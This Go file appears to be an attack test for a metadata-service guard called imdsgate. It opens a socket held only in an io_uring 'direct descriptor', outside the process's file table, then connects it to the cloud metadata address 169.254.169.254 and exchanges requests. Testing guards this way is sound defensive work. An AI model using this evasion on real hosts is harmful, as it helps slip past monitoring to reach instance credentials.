package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"sync/atomic"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/imdsgate/imdsgate/test/attacks/ask"
)

// ring is an io_uring with one direct descriptor, which is in no table
// (io_uring(7), io_uring_register_files(3)).
type ring struct {
	fd                     int
	sq, cq                 []byte
	sqTail, sqMask, sqList *uint32
	cqHead, cqTail, cqMask *uint32
	submissions            []submission
	completions            unsafe.Pointer
	to                     unix.RawSockaddrInet4 // where a stack does not move it
}

// The structures are those of include/uapi/linux/io_uring.h.
type params struct {
	sqEntries, cqEntries, flags, cpu, idle, features, workers uint32
	_                                                         [3]uint32
	sq                                                        struct {
		head, tail, mask, entries, flags, dropped, array, _ uint32
		_                                                   uint64
	}
	cq struct {
		head, tail, mask, entries, overflow, cqes, flags, _ uint32
		_                                                   uint64
	}
}

type submission struct {
	opcode, flags   uint8
	_               uint16
	fd              int32
	off, addr       uint64
	length, opFlags uint32
	userData        uint64
	_               uint16
	_               uint16
	fileIndex       uint32
	_               [2]uint64
}

type completion struct {
	userData uint64
	result   int32
	flags    uint32
}

const (
	opConnect, opSend, opReceive, opSocket = 16, 26, 27, 45

	fixedFile       = 1 // IOSQE_FIXED_FILE
	registerFiles   = 2
	getEvents       = 1 // IORING_ENTER_GETEVENTS
	offsetSQ        = 0
	offsetCQ        = 0x8000000
	offsetSQEs      = 0x10000000
	ringEntries     = 4
	directSlot      = 0
	sizeOfCQE       = unsafe.Sizeof(completion{})
	sizeOfSQE       = unsafe.Sizeof(submission{})
	ringMemory      = unix.PROT_READ | unix.PROT_WRITE
	ringMemoryFlags = unix.MAP_SHARED | unix.MAP_POPULATE
)

// newRing makes a ring whose direct descriptor is fd, -1 for none yet. The ring
// has a reference of its own: fd can be closed.
func newRing(fd int) (*ring, error) {
	var p params
	r, _, errno := unix.Syscall(unix.SYS_IO_URING_SETUP, ringEntries, uintptr(unsafe.Pointer(&p)), 0)
	if errno == unix.EPERM || errno == unix.ENOSYS {
		setting, _ := os.ReadFile("/proc/sys/kernel/io_uring_disabled")
		return nil, fmt.Errorf("%w: io_uring_setup: %v, kernel.io_uring_disabled = %q", errUnavailable, errno, setting)
	}
	if errno != 0 {
		return nil, fmt.Errorf("io_uring_setup: %w", errno)
	}
	u := &ring{fd: int(r)}
	var err error
	if u.sq, err = unix.Mmap(u.fd, offsetSQ, int(p.sq.array+4*p.sqEntries), ringMemory, ringMemoryFlags); err != nil {
		return nil, err
	}
	if u.cq, err = unix.Mmap(u.fd, offsetCQ, int(p.cq.cqes)+int(p.cqEntries)*int(sizeOfCQE), ringMemory, ringMemoryFlags); err != nil {
		return nil, err
	}
	sqes, err := unix.Mmap(u.fd, offsetSQEs, int(p.sqEntries)*int(sizeOfSQE), ringMemory, ringMemoryFlags)
	if err != nil {
		return nil, err
	}
	word := func(b []byte, at uint32) *uint32 { return (*uint32)(unsafe.Pointer(&b[at])) }
	u.sqTail, u.sqMask, u.sqList = word(u.sq, p.sq.tail), word(u.sq, p.sq.mask), word(u.sq, p.sq.array)
	u.cqHead, u.cqTail, u.cqMask = word(u.cq, p.cq.head), word(u.cq, p.cq.tail), word(u.cq, p.cq.mask)
	u.submissions = unsafe.Slice((*submission)(unsafe.Pointer(&sqes[0])), p.sqEntries)
	u.completions = unsafe.Pointer(&u.cq[p.cq.cqes])
	files := []int32{int32(fd)}
	if _, _, errno := unix.Syscall6(unix.SYS_IO_URING_REGISTER, uintptr(u.fd), registerFiles, uintptr(unsafe.Pointer(&files[0])), 1, 0, 0); errno != 0 {
		return nil, fmt.Errorf("register the descriptor: %w", errno)
	}
	return u, nil
}

// do runs one operation to its end.
func (r *ring) do(s submission) (int, error) {
	tail := atomic.LoadUint32(r.sqTail)
	i := tail & *r.sqMask
	r.submissions[i] = s
	*(*uint32)(unsafe.Add(unsafe.Pointer(r.sqList), 4*i)) = i
	atomic.StoreUint32(r.sqTail, tail+1)
	toSubmit := uintptr(1)
	for atomic.LoadUint32(r.cqTail) == atomic.LoadUint32(r.cqHead) {
		n, _, errno := unix.Syscall6(unix.SYS_IO_URING_ENTER, uintptr(r.fd), toSubmit, 1, getEvents, 0, 0)
		if errno != 0 && errno != unix.EINTR {
			return 0, fmt.Errorf("io_uring_enter: %w", errno)
		}
		if errno == 0 {
			toSubmit -= min(n, toSubmit)
		}
	}
	head := atomic.LoadUint32(r.cqHead)
	c := *(*completion)(unsafe.Add(r.completions, uintptr(head&*r.cqMask)*sizeOfCQE))
	atomic.StoreUint32(r.cqHead, head+1)
	if c.result < 0 {
		return 0, unix.Errno(-c.result)
	}
	return int(c.result), nil
}

func (r *ring) socket() error {
	_, err := r.do(submission{opcode: opSocket, fd: unix.AF_INET, off: unix.SOCK_STREAM, fileIndex: directSlot + 1})
	if err != nil {
		return fmt.Errorf("socket by io_uring: %w", err)
	}
	return nil
}

// connect connects to the service.
func (r *ring) connect() error {
	r.to = unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: [4]byte{169, 254, 169, 254}}
	binary.BigEndian.PutUint16((*[2]byte)(unsafe.Pointer(&r.to.Port))[:], 80)
	return r.connectTo()
}

// disconnect leaves a socket that can be connected again.
func (r *ring) disconnect() error {
	r.to = unix.RawSockaddrInet4{Family: unix.AF_UNSPEC}
	return r.connectTo()
}

func (r *ring) connectTo() error {
	_, err := r.do(submission{opcode: opConnect, flags: fixedFile, fd: directSlot, addr: uint64(uintptr(unsafe.Pointer(&r.to))), off: uint64(unsafe.Sizeof(r.to))})
	if err != nil {
		return fmt.Errorf("connect by io_uring: %w", err)
	}
	return nil
}

func (r *ring) send(b []byte) error {
	n, err := r.do(submission{opcode: opSend, flags: fixedFile, fd: directSlot, addr: uint64(uintptr(unsafe.Pointer(&b[0]))), length: uint32(len(b))})
	if err == nil && n != len(b) {
		err = fmt.Errorf("%d of %d bytes", n, len(b))
	}
	return err
}

func (r *ring) receive(b []byte) (int, error) {
	return r.do(submission{opcode: opReceive, flags: fixedFile, fd: directSlot, addr: uint64(uintptr(unsafe.Pointer(&b[0]))), length: uint32(len(b))})
}

func (r *ring) exchange(request []byte) error {
	if err := r.send(request); err != nil {
		return fmt.Errorf("send by io_uring: %w", err)
	}
	ask.ReadBy(r.receive).Tell()
	return nil
}
